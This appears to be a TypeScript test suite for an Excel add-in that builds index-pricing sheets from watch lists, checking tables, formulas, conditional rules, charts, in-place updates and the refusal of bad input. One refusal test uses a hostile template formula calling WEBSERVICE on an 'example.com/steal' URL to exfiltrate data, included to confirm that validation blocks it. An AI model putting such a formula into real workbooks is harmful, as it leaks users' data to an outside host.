import { startReferenceService, type RunningReferenceService } from "../../reference-service/src";
import { DirectSource, IndexDataClient } from "../../src/client";
import { excelPricingSheetActions } from "../../src/office/pricing-sheet-actions";
import { PRICING_SHEETS_SETTING } from "../../src/office/pricing-sheet-writer";
import { isIndexFormula } from "../../src/office/refresh-scope-ranges";
import type { ExcelRun } from "../../src/office/undo-group";
import { DEFAULT_TEMPLATE } from "../../src/workbook/default-template";
import type { PricingTemplate } from "../../src/workbook/pricing-template";
import { restorableFormula } from "../../src/workbook/receipt-formula";
import type { WatchList } from "../../src/workbook/watch-list";
import { extraIndex } from "../support/extra-indexes";
import { NO_STARTUP } from "../support/startup";
import { linkedIndexCell } from "./data-type-mock";
import { PricingBook, type BookSheet } from "./pricing-book-mock";

/**
 * The sheet builder on office-addin-mock objects over a workbook in memory, the catalogue from the reference service
 * (41 extra indexes beside its own 9: a list of 50). A list builds one sheet with one table holding every column of
 * the template, its number formats and its rules, a frozen header row, and the list's last 90 days in panels with
 * charts; a second build of the same list updates that sheet in place; a hostile template or an unknown symbol is
 * refused, naming the problem, with nothing written. Expected layouts are read off the template, a fixture.
 */
let service: RunningReferenceService;
let source: DirectSource;
let fifty: string[];

beforeAll(async () => {
  const extra = Array.from({ length: 41 }, (_, i) => extraIndex(`XT-${String(i).padStart(2, "0")}`));
  service = await startReferenceService({ extraIndexes: extra, rateLimits: { anonymous: 100_000 } });
  source = new DirectSource(new IndexDataClient({ baseUrl: service.url }));
  fifty = (await source.listIndexes()).data.map((entry) => entry.symbol);
});

afterAll(() => service.close());

const BAD = { fill: "#FFC7CE", font: "#9C0006" };
const NEUTRAL = { fill: "#FFEB9C", font: "#9C5700" };

function builder(book: PricingBook, options: { entities?: boolean } = {}) {
  const calls: (Excel.RunOptions | undefined)[] = [];
  const run: ExcelRun = (batch, runOptions) => {
    calls.push(runOptions);
    return book.run(batch);
  };
  const actions = excelPricingSheetActions(
    {
      userSource: source,
      indexDomain: { register: () => Promise.resolve(options.entities ?? true) },
      ...NO_STARTUP,
    },
    { run, undoGroups: () => true },
  );
  return { actions, calls };
}

const list = (symbols: readonly string[], name = "Desk fifty"): WatchList => ({ id: "list_fifty01", name, symbols });
const quoted = (formula: string, symbol: string) => formula.replace("{symbol}", `"${symbol}"`);
const built = (book: PricingBook) => book.sheets.filter((sheet) => sheet.name !== "Sheet1");

/** Every column of the template in `sheet`'s rows below the header: the formulas, row by row. */
function expectColumns(book: PricingBook, sheet: BookSheet, symbols: readonly string[]): void {
  const last = symbols.length + 1;
  const header = book.grid(sheet, `A1:M1`, (cell) => cell?.value);
  expect(header).toEqual([["Index", ...DEFAULT_TEMPLATE.columns.map((column) => column.header)]]);
  const formulas = book.grid(sheet, `B2:M${last}`, (cell) => cell?.formula);
  expect(formulas).toEqual(symbols.map((symbol) => DEFAULT_TEMPLATE.columns.map((c) => quoted(c.formula, symbol))));
  DEFAULT_TEMPLATE.columns.forEach((column, i) => {
    const letter = String.fromCharCode(66 + i);
    const formats = book.grid(sheet, `${letter}2:${letter}${last}`, (cell) => cell?.format).flat();
    expect(formats).toEqual(symbols.map(() => column.numberFormat));
  });
}

function expectedRules(last: number) {
  return [
    { address: `B2:B${last}`, type: "Custom", formula: "=AND(ISNUMBER($C2),$C2<TODAY()-3)", ...BAD },
    { address: `B2:B${last}`, type: "Custom", formula: "=LEN($J2)>0", ...NEUTRAL },
    { address: `C2:C${last}`, type: "Custom", formula: "=AND(ISNUMBER($C2),$C2<TODAY()-3)", ...BAD },
    { address: `H2:H${last}`, type: "Custom", formula: "=AND(ISNUMBER($H2),$H2<50)", ...BAD },
    { address: `I2:I${last}`, type: "Custom", formula: '=$I2="STALE"', ...BAD },
    { address: `J2:J${last}`, type: "Custom", formula: "=LEN($J2)>0", ...NEUTRAL },
  ];
}

const panelFormula = (symbols: readonly string[]) => `=INDEX.PANEL("${symbols.join(",")}","-90D",TODAY(),"previous")`;

describe("a list of 50", () => {
  it("builds one sheet with one table of every column, format and rule, a frozen header, panels and charts", async () => {
    expect(fifty).toHaveLength(50);
    const book = new PricingBook();
    const { actions, calls } = builder(book);
    const outcome = await actions.build(list(fifty), DEFAULT_TEMPLATE);
    expect(outcome).toEqual({
      built: true,
      message:
        'Built the sheet "Pricing Desk fifty": 50 indexes in a table of 13 columns, and under it the list\'s last days in 3 panels with charts.',
    });
    expect(calls).toEqual([{ mergeUndoGroup: true }]);
    const [sheet] = built(book);
    if (sheet === undefined) throw new Error("no sheet was built");
    expect(built(book)).toHaveLength(1);
    expect(book.active).toBe("Pricing Desk fifty");
    expect(sheet.tables).toEqual([
      { name: "IndexPricing_list_fifty01", address: "A1:M51", headers: true, style: "TableStyleMedium2" },
    ]);
    expect(book.grid(sheet, "A2:A51", (cell) => cell?.json)).toEqual(fifty.map((symbol) => [linkedIndexCell(symbol)]));
    expectColumns(book, sheet, fifty);
    expect(sheet.rules).toEqual(expectedRules(51));
    expect(sheet.frozenRows).toBe(1);
    const blocks = [fifty.slice(0, 20), fifty.slice(20, 40), fifty.slice(40)];
    expect(["A53", "W53", "AS53"].map((at) => book.cell(sheet, at)?.formula)).toEqual(blocks.map(panelFormula));
    expect(sheet.charts).toEqual([
      chart(1, "A53:U144", "O1", "V18"),
      chart(2, "W53:AQ144", "O20", "V37"),
      chart(3, "AS53:BC144", "O39", "V56"),
    ]);
    expect(JSON.parse(String(book.settings.get(PRICING_SHEETS_SETTING)))).toEqual({
      version: 1,
      sheets: [
        {
          listId: "list_fifty01",
          sheetId: sheet.id,
          table: "IndexPricing_list_fifty01",
          area: "A1:BC144",
          charts: [1, 2, 3].map((n) => `IndexPricing_list_fifty01_chart${n}`),
        },
      ],
    });
  });

  it("writes only formulas of the add-in's own, so Refresh, refresh by scope and freeze with restore take them", async () => {
    const book = new PricingBook();
    await builder(book).actions.build(list(fifty), DEFAULT_TEMPLATE);
    const [sheet] = built(book);
    const written = [...(sheet?.cells.values() ?? [])].filter((cell) => cell.formula !== undefined);
    expect(written).toHaveLength(50 * 12 + 3);
    for (const { formula } of written) {
      expect(isIndexFormula(formula)).toBe(true);
      expect({ formula, verdict: restorableFormula(formula ?? "") }).toEqual({ formula, verdict: { ok: true } });
    }
  });

  it("updates the same sheet in place on a second build, whatever the sheet is called now, leaving nothing behind", async () => {
    const book = new PricingBook();
    const { actions } = builder(book);
    await actions.build(list(fifty), DEFAULT_TEMPLATE);
    const [sheet] = built(book);
    if (sheet === undefined) throw new Error("no sheet was built");
    sheet.name = "My prices"; // the trader renamed it
    const thirty = [...fifty].reverse().slice(0, 30);
    const outcome = await actions.build(list(thirty, "Desk thirty"), DEFAULT_TEMPLATE);
    expect(outcome.message).toBe(
      'Updated the sheet "My prices" in place: 30 indexes in a table of 13 columns, and under it the list\'s last days in 2 panels with charts.',
    );
    expect(built(book)).toEqual([sheet]);
    expect(sheet.tables.map((table) => table.address)).toEqual(["A1:M31"]);
    expect(book.grid(sheet, "A2:A31", (cell) => cell?.json)).toEqual(thirty.map((symbol) => [linkedIndexCell(symbol)]));
    expectColumns(book, sheet, thirty);
    expect(sheet.rules).toEqual(expectedRules(31));
    expect(sheet.charts.map((c) => [c.name, c.source])).toEqual([
      ["IndexPricing_list_fifty01_chart1", "A33:U124"],
      ["IndexPricing_list_fifty01_chart2", "W33:AG124"],
    ]);
    // Nothing of the first build is left: its rows 32 to 51 and its panels' cells are empty.
    const formulas = [...sheet.cells.entries()].filter(
      ([, cell]) => cell.formula !== undefined || cell.json !== undefined,
    );
    expect(formulas).toHaveLength(30 * 13 + 2);
    expect(book.cell(sheet, "A53")).toBeUndefined();
    expect(book.cell(sheet, "B51")).toBeUndefined();
  });

  it("writes the symbols as text where Excel has no linked data types, and says so", async () => {
    const book = new PricingBook();
    const outcome = await builder(book, { entities: false }).actions.build(list(fifty.slice(0, 3)), DEFAULT_TEMPLATE);
    expect(outcome.message).toMatch(
      /The Index column holds symbols: Index values need Excel with linked data types\.$/,
    );
    const [sheet] = built(book);
    expect(book.grid(sheet as BookSheet, "A2:A4", (cell) => cell?.value)).toEqual(fifty.slice(0, 3).map((s) => [s]));
  });
});

function chart(n: number, source: string, from: string, to: string) {
  return {
    name: `IndexPricing_list_fifty01_chart${n}`,
    type: "Line",
    source,
    seriesBy: "Columns",
    title: `Desk fifty: last 90 days (${n} of 3)`,
    position: [from, to],
  };
}

describe("refused before anything is written", () => {
  const withFormula = (formula: string): PricingTemplate => ({
    ...DEFAULT_TEMPLATE,
    columns: [{ key: "evil", header: "Evil", formula }, ...DEFAULT_TEMPLATE.columns.slice(1)],
  });

  it.each([
    [
      '=WEBSERVICE("http://example.com/steal")',
      "columns[0].formula: it calls WEBSERVICE, which is not an INDEX function",
    ],
    ["=INDEX.NOPE({symbol})", "columns[0].formula: INDEX.NOPE is not a function of this add-in"],
    ["=INDEX.LATEST(A1)", "columns[0].formula: it refers to a cell; write {symbol} for the row's index"],
    ["=INDEX.LATEST({other})", "columns[0].formula: only {symbol} may stand for the row's index"],
  ])("a template whose formula is %s", async (formula, problem) => {
    const book = new PricingBook();
    const { actions, calls } = builder(book);
    expect(await actions.build(list(fifty), withFormula(formula))).toEqual({
      built: false,
      message: `The template cannot be used: ${problem}. Nothing was written.`,
    });
    expect({ calls, applied: book.applied, sheets: book.sheets.length, settings: book.settings.size }).toEqual({
      calls: [],
      applied: 0,
      sheets: 1,
      settings: 0,
    });
  });

  it("a list naming a symbol the service does not list, or in the wrong case", async () => {
    const book = new PricingBook();
    const { actions, calls } = builder(book);
    const outcome = await actions.build(list(["RTM-NWE-A-1x3", "RTM-NOPE-1x3", "rtm-nwe-b-1x3"]), DEFAULT_TEMPLATE);
    expect(outcome).toEqual({
      built: false,
      message:
        '"RTM-NOPE-1x3", "rtm-nwe-b-1x3" (did you mean "RTM-NWE-B-1x3"?) are not indexes of this service: check the symbols (INDEX.LIST() shows every index). Nothing was written.',
    });
    expect({ calls, applied: book.applied, settings: book.settings.size }).toEqual({
      calls: [],
      applied: 0,
      settings: 0,
    });
  });
});
